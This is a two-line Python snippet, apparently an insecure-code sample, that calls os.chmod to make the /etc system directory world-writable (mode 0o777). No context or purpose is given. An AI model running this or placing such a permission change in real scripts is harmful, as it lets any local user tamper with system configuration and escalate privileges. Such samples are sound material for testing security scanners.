import os

os.chmod("/etc", 0o777)
